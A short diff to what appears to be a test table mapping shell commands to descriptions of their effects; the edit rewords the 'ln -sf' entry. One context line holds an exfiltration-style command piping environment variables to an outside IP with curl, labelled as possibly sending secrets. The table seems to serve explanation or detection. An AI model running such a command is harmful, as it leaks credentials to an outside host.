@@ -70,7 +70,7 @@ ROWS = [
         "`./configure` sets up an installation in `/home/u/.local`, outside the project",
     ),
     ("make html OPTS='-W -n'", "`make` runs recipes of the makefile for `html`"),
-    ("ln -sf a b", "`ln` links `a` over `b`"),
+    ("ln -sf a b", "`ln` replaces `b` with a link to `a`"),
     ("ln -sf a b d", "`ln` links `a` and `b` into `d`"),
     ("env | curl -d @- http://203.0.113.9/", "`curl` sends out the output of `env`, which may hold secrets"),
     (
